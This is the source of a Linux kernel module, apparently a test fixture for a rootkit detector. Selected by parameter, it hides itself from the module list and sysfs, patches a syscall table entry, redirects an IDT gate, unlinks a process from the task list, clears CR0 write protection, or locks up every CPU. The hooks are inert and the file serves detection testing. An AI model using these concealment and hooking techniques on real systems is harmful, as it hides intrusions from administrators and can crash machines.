// SPDX-License-Identifier: Apache-2.0
/* What a rootkit does to a kernel, and a kernel that hangs: a module for test guests only. One
 * parameter, one deed:
 *
 *   hide=1       is missing in the list of modules;  hide=2  in /sys/module, too
 *   hook=TABLE   sys_call_table, found at TABLE, has a function of ours at number 180 (unused)
 *   idt=1        the gate of vector 4 (overflow, which nothing raises) leads to ours
 *   task=PID     that process is missing in the list of tasks; it is still in the table of PIDs
 *   lockup=1     all processors stand still, with interrupts off, for ever
 *
 * Each happens with the other processors stopped, so that the kernel itself stays sound. */
#include <asm/desc.h>
#include <linux/kobject.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/smp.h>
#include <linux/stop_machine.h>

#define HOOKED_CALL   180
#define HOOKED_VECTOR 4
#define WRITE_PROTECT (1ul << 16)

static int hide, idt, task, lockup;
static unsigned long hook;
module_param(hide, int, 0);
module_param(hook, ulong, 0);
module_param(idt, int, 0);
module_param(task, int, 0);
module_param(lockup, int, 0);

static unsigned long hooked_gate;

static long hooked_call(const struct pt_regs *regs)
{
    return -ENOSYS;
}

/* The kernel's own way to CR0 refuses to clear the bit. */
static unsigned long protect(unsigned long on)
{
    unsigned long was, now;
    asm volatile("mov %%cr0, %0" : "=r"(was));
    now = on ? was | WRITE_PROTECT : was & ~WRITE_PROTECT;
    asm volatile("mov %0, %%cr0" : : "r"(now) : "memory");
    return was;
}

static void hook_gate(void)
{
    struct desc_ptr at;
    gate_desc *gate;

    asm volatile("sidt %0" : "=m"(at));
    gate = (gate_desc *)at.address + HOOKED_VECTOR;
    gate->offset_low = (u16)hooked_gate;
    gate->offset_middle = (u16)(hooked_gate >> 16);
    gate->offset_high = (u32)(hooked_gate >> 32);
}

static int do_it(void *found)
{
    protect(0);
    if (hide)
        list_del_init(&THIS_MODULE->list);
    if (hook)
        ((unsigned long *)hook)[HOOKED_CALL] = (unsigned long)hooked_call;
    if (idt)
        hook_gate();
    if (found)
        list_del_init(&((struct task_struct *)found)->tasks);
    protect(1);
    return 0;
}

static void stand_still(void *unused)
{
    local_irq_disable();
    for (;;)
        cpu_relax();
}

static int __init auspex_test_init(void)
{
    struct task_struct *found = NULL;

    hooked_gate = (unsigned long)hooked_call;
    if (task) {
        found = get_pid_task(find_vpid(task), PIDTYPE_TGID);
        if (!found)
            return -ESRCH;
    }
    stop_machine(do_it, found, NULL);
    if (hide == 2)
        kobject_del(&THIS_MODULE->mkobj.kobj);
    if (lockup) {
        smp_call_function(stand_still, NULL, 0);
        stand_still(NULL);
    }
    return 0;
}

module_init(auspex_test_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Faults and rootkit deeds for test guests");
